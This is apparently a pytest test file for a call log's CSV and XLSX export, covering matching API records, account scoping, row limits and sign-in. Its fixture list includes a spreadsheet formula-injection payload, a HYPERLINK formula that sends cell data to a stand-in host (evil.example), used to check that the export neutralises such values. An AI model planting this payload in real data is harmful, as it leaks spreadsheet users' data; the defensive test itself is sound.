"""Exporting the call log's search, as a signed-in browser downloads it, in process on
SQLite and PostgreSQL: the CSV and XLSX hold exactly /api/cdr's records for the same
filters (newest first), or the columns the call log shows; a scoped account's export
holds only its calls; Excel's row limit cuts the XLSX with a message; values a
spreadsheet would run as formulas are neutralised; without a session, the sign-in form."""

from __future__ import annotations

import contextlib
import csv
import html
import io
import re
import zipfile
from collections.abc import AsyncIterator, Iterator
from typing import Any
from xml.etree import ElementTree

import httpx
import pytest
from starlette.applications import Starlette

from cdrapi.settings import Settings
from cdrapi.store import export as store_export
from cdrapi.store.accounts import create_account
from cdrapi.store.engine import connect
from cdrapi.store.executor import StoreExecutor
from cdrapi.web import export
from cdrapi.web.auth import sign_in_routes
from cdrapi.web.export import export_routes
from tests.conftest import app_client
from tests.data import load, oracle, sample_rows

PASSWORD = "correct horse battery"
TOKEN = "export-test-token"
TRIGGERS = "=+-@\t\r"
#: Stored values a spreadsheet would run, and awkward CSV text.
AWKWARD = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+40723000111",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    "\tleading tab",
    'a "quoted", two-line\r\ncomment',
    "'plain apostrophe",
]
#: Searches as the call log's query string, and the same as /api/cdr filters.
SEARCHES: list[tuple[str, dict[str, Any]]] = [
    ("", {}),
    ("from=2024-01-05&to=2024-01-20", {"date_between": ["2024-01-05", "2024-01-20"]}),
    ("direction=IN&direction=OUT&call_status=ANSWERED", {"direction": ["IN", "OUT"],
                                                         "call_status": ["ANSWERED"]}),
    ("telephone_like=072", {"telephone_like": "072"}),
]  # fmt: skip


def web_app(settings: Settings) -> Starlette:
    """The sign-in and export routes, mounted as the web app mounts them."""
    engine = connect(settings.db, create=False)
    database = StoreExecutor(engine)

    @contextlib.asynccontextmanager
    async def lifespan(app: Starlette) -> AsyncIterator[None]:
        yield
        database.close()
        engine.dispose()

    routes = [*sign_in_routes(settings, database), *export_routes(settings, database)]
    return Starlette(routes=routes, lifespan=lifespan)


@pytest.fixture
def stored(db_url: str) -> Iterator[tuple[str, list[dict[str, Any]]]]:
    engine = connect(db_url)
    rows = [{**row, "comments": None} for row in sample_rows(260, seed=5)]
    for n, text in enumerate(AWKWARD):  # in the text fields of the newest calls
        rows[-1 - n].update(caller_id=text, comments=text, source=text, time="2024-02-01 10:00:00")
    rows = load(engine, rows)
    create_account(engine, "admin", PASSWORD)
    create_account(engine, "sales", PASSWORD, project_ids=[2])
    engine.dispose()
    yield db_url, rows


@contextlib.contextmanager
def browser(db: str, username: str = "admin") -> Iterator[httpx.Client]:
    with app_client(web_app(Settings(db=db))) as client:
        signed = client.post("/login", data={"username": username, "password": PASSWORD})
        assert signed.status_code == 303
        yield client


def api_records(db: str, filters: dict[str, Any]) -> list[dict[str, Any]]:
    """Every record /api/cdr answers for ``filters`` (all pages), newest first."""
    found: list[dict[str, Any]] = []
    with app_client(Settings(db=db, api_token=TOKEN)) as client:
        page = 1
        while True:
            sent = {"page": page, "filters": filters}
            answer = client.post(
                "/api/cdr", json=sent, headers={"Authorization": f"Bearer {TOKEN}"}
            )
            assert answer.status_code == 200, answer.text
            body = answer.json()
            found.extend(body["results"])
            if page >= body["pagination"]["max_page"]:
                break
            page += 1
    return sorted(found, key=lambda r: (r["time"], int(r["id"])), reverse=True)


def csv_rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def restored(cell: str) -> str:
    """A CSV cell's stored value: the export's neutralising apostrophe taken off."""
    return cell[1:] if re.match(r"''?[=+\-@\t\r]", cell) else cell


def as_cells(records: list[dict[str, Any]]) -> list[list[str]]:
    return [["" if v is None else str(v) for v in r.values()] for r in records]


def sheet_rows(content: bytes) -> tuple[list[list[Any]], set[str]]:
    """The first sheet's rows (cell values, blanks as None) read with the stdlib, and the
    references of the cells styled with Excel's quote prefix."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        styles = ElementTree.fromstring(book.read("xl/styles.xml"))
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():
            strings = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t")) for si in strings]
    xfs = styles.find("m:cellXfs", ns)
    assert xfs is not None
    quoted_styles = {str(i) for i, xf in enumerate(xfs) if xf.get("quotePrefix") == "1"}
    rows, quoted = [], set()
    for row in sheet.iter(f"{{{ns['m']}}}row"):
        cells: list[Any] = []
        for cell in row.iter(f"{{{ns['m']}}}c"):
            assert cell.find("m:f", ns) is None  # never a formula
            ref = cell.get("r", "")
            column = 0
            for letter in re.match(r"[A-Z]+", ref).group():  # type: ignore[union-attr]
                column = column * 26 + ord(letter) - 64
            cells.extend([None] * (column - 1 - len(cells)))
            kind = cell.get("t")
            if kind == "inlineStr":
                value: Any = "".join(t.text or "" for t in cell.iter(f"{{{ns['m']}}}t"))
            elif kind == "s":
                value = shared[int(cell.findtext("m:v", "", ns))]
            else:
                number = float(cell.findtext("m:v", "", ns))
                value = int(number) if number.is_integer() else number
            if isinstance(value, str):  # OOXML's escapes of control characters
                value = re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)
            if cell.get("s") in quoted_styles:
                quoted.add(ref)
            cells.append(value)
        rows.append(cells)
    return rows, quoted


def test_the_csv_holds_the_apis_records_newest_first(
    stored: tuple[str, list[dict[str, Any]]],
) -> None:
    db, _ = stored
    with browser(db) as client:
        for query, filters in SEARCHES:
            expected = api_records(db, filters)
            assert expected, query
            response = client.get(f"/export.csv?{query}&columns=all")
            header, *body = csv_rows(response)
            assert header == list(expected[0])  # the 43 keys, in the API's order
            assert [[restored(c) for c in row] for row in body] == as_cells(expected), query
        dated = client.get("/export.csv?from=2024-01-05&to=2024-01-20")
        disposition = dated.headers["content-disposition"]
        assert disposition == 'attachment; filename="calls_2024-01-05_to_2024-01-20.csv"'
        assert client.get("/export.csv").headers["content-disposition"].endswith('all.csv"')


def test_the_csv_is_the_same_read_in_small_chunks(
    stored: tuple[str, list[dict[str, Any]]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Chunks of 3 records, each one string written by the database: their edges fall
    between the 8 newest calls (all of one second), and the bytes are those of one chunk,
    through the time index's walk (as on a big store) and through sorting."""
    db, _ = stored
    with browser(db) as client:
        whole = {query: client.get(f"/export.csv?{query}").content for query, _ in SEARCHES}
        monkeypatch.setattr(export, "CSV_CHUNK", 3)
        for walk_from in (0, 10**9):
            monkeypatch.setattr(store_export, "_WALK_FROM", walk_from)
            for query, filters in SEARCHES:
                response = client.get(f"/export.csv?{query}")
                assert response.content == whole[query], (query, walk_from)
                _, *body = csv_rows(response)
                expected = as_cells(api_records(db, filters))
                assert [[restored(c) for c in row] for row in body] == expected, query


def test_the_xlsx_holds_the_same_records(stored: tuple[str, list[dict[str, Any]]]) -> None:
    db, _ = stored
    query, filters = SEARCHES[1]
    expected = api_records(db, filters)
    with browser(db) as client:
        response = client.get(f"/export.xlsx?{query}")
    assert response.status_code == 200 and "x-export-cut" not in response.headers
    assert response.headers["content-disposition"].endswith('2024-01-20.xlsx"')
    header, *body = sheet_rows(response.content)[0]
    assert header == list(expected[0])
    width = len(header)
    cells = [row + [None] * (width - len(row)) for row in body]
    assert cells == [[None if v == "" else v for v in r.values()] for r in expected]


def test_formulas_are_neutralised(stored: tuple[str, list[dict[str, Any]]]) -> None:
    db, _ = stored
    with browser(db) as client:
        text = client.get("/export.csv?from=2024-02-01").content.decode("utf-8-sig")
        _, *body = list(csv.reader(io.StringIO(text, newline="")))
        xlsx = client.get("/export.xlsx?from=2024-02-01").content
    keys = list(api_records(db, {"date_between": ["2024-02-01", None]})[0])
    comments = [row[keys.index("comments")] for row in body]
    assert sorted(comments) == sorted(
        ("'" + value if re.match(r"'?[=+\-@\t\r]", value) else value) for value in AWKWARD
    )
    # No cell of the CSV starts as a formula.
    assert not [cell for row in body for cell in row if cell and cell[0] in TRIGGERS]
    # The XLSX keeps the values exactly, as text with Excel's quote prefix.
    rows, quoted = sheet_rows(xlsx)
    column = keys.index("comments")
    letter = chr(ord("A") + column) if column < 26 else "A" + chr(ord("A") + column - 26)
    stored_values = [row[column] for row in rows[1:]]
    assert sorted(stored_values) == sorted(AWKWARD)
    for number, value in enumerate(stored_values, start=2):
        assert (f"{letter}{number}" in quoted) == (value[0] in TRIGGERS)


def test_a_scoped_account_exports_only_its_calls(
    stored: tuple[str, list[dict[str, Any]]],
) -> None:
    db, rows = stored
    with browser(db, "sales") as client:
        for query, filters in SEARCHES:
            _, *body = csv_rows(client.get(f"/export.csv?{query}"))
            mine = {r["id"] for r in rows if oracle(r, filters) and r["project_id"] == 2}
            assert {int(row[0]) for row in body} == mine and mine, query
        # Asking for another project's calls by URL finds nothing.
        _, *others = csv_rows(client.get("/export.csv?project_id=1"))
        assert others == []
        sheet = sheet_rows(client.get("/export.xlsx?columns=shown&view=legs").content)[0]
        assert len(sheet) - 1 == sum(1 for r in rows if r["project_id"] == 2)


def test_the_shown_columns(stored: tuple[str, list[dict[str, Any]]]) -> None:
    db, _ = stored
    query, filters = SEARCHES[1]
    expected = api_records(db, filters)
    with browser(db) as client:
        header, *legs = csv_rows(client.get(f"/export.csv?{query}&columns=shown&view=legs"))
        assert header == list(export.SHOWN_COLUMNS[:-1])
        assert [(row[0], restored(row[2]), restored(row[4])) for row in legs] == [
            (r["time"], r["source"], r["destination"]) for r in expected
        ]
        statuses = {"ANSWERED": "Answered", "NO ANSWER": "Missed", "BUSY": "Busy"}
        for row, rec in zip(legs, expected, strict=True):
            assert row[7] == statuses.get(rec["call_status"], rec["call_status"].title())
            assert row[11] == ("yes" if rec["recording_file"] or rec["monitor_files"] else "")
        header, *grouped = csv_rows(client.get(f"/export.csv?{query}&columns=shown"))
        assert header == list(export.SHOWN_COLUMNS)
    calls: dict[str, list[dict[str, Any]]] = {}
    for rec in expected:
        calls.setdefault(rec["linkedid"] or rec["uniqueid"], []).append(rec)
    firsts = sorted(
        (min((r["time"], int(r["id"])) for r in legs) for legs in calls.values()), reverse=True
    )
    assert [row[0] for row in grouped] == [time for time, _ in firsts]
    assert sum(int(row[-1]) for row in grouped) == len(expected)


def test_the_xlsx_stops_at_excels_rows(
    stored: tuple[str, list[dict[str, Any]]], monkeypatch: pytest.MonkeyPatch
) -> None:
    db, rows = stored
    monkeypatch.setattr(export, "XLSX_ROWS", 6)  # a header and five rows
    newest = sorted(rows, key=lambda r: (r["time"], r["id"]), reverse=True)
    with browser(db) as client:
        cut = client.get("/export.xlsx")
        exactly = client.get(f"/export.xlsx?from_id={rows[-5]['id']}")  # five records
    assert cut.headers["x-export-cut"] == f"4 of {len(rows)}"
    sheet = sheet_rows(cut.content)[0]
    assert len(sheet) == 6
    assert [row[0] for row in sheet[1:5]] == [str(r["id"]) for r in newest[:4]]
    assert sheet[5] == [
        f"Cut here: an Excel sheet holds 6 rows; this file has the newest 4 of {len(rows)} "
        "records. Narrow the search, or export CSV for all of them."
    ]
    assert "x-export-cut" not in exactly.headers
    assert len(sheet_rows(exactly.content)[0]) == 6  # all five records fit


def test_without_a_session_the_sign_in_form(stored: tuple[str, list[dict[str, Any]]]) -> None:
    db, _ = stored
    with app_client(web_app(Settings(db=db))) as client:
        for path in ("/export.csv?direction=IN", "/export.xlsx"):
            response = client.get(path)
            assert response.status_code == 303
            assert response.headers["location"].startswith("/login?next=%2Fexport.")
            assert b"uniqueid" not in response.content


def test_a_bad_search_is_refused_in_words(stored: tuple[str, list[dict[str, Any]]]) -> None:
    db, _ = stored
    with browser(db) as client:
        response = client.get("/export.csv?from=yesterday-ish&columns=some")
    assert response.status_code == 400
    assert "Cannot export" in response.text and "columns: all or shown" in response.text


def test_the_call_log_links_to_the_export_of_its_search(
    stored: tuple[str, list[dict[str, Any]]],
) -> None:
    db, _ = stored
    query, filters = SEARCHES[0]
    with app_client(Settings(db=db)) as client:  # the whole app, as cdrapi serve runs it
        signed = client.post("/login", data={"username": "admin", "password": PASSWORD})
        assert signed.status_code == 303
        page = client.get(f"/?{query}")
        assert page.status_code == 200
        links = dict(re.findall(r'id="(export-[a-z]+)" href="([^"]+)"', page.text))
        assert set(links) == {"export-csv", "export-xlsx", "export-all"}
        every = client.get(html.unescape(links["export-all"]))
        _, *body = csv_rows(every)
        assert [[restored(c) for c in row] for row in body] == as_cells(api_records(db, filters))
        shown = client.get(html.unescape(links["export-csv"]))
        assert shown.status_code == 200 and shown.text.count("\r\n") > 1
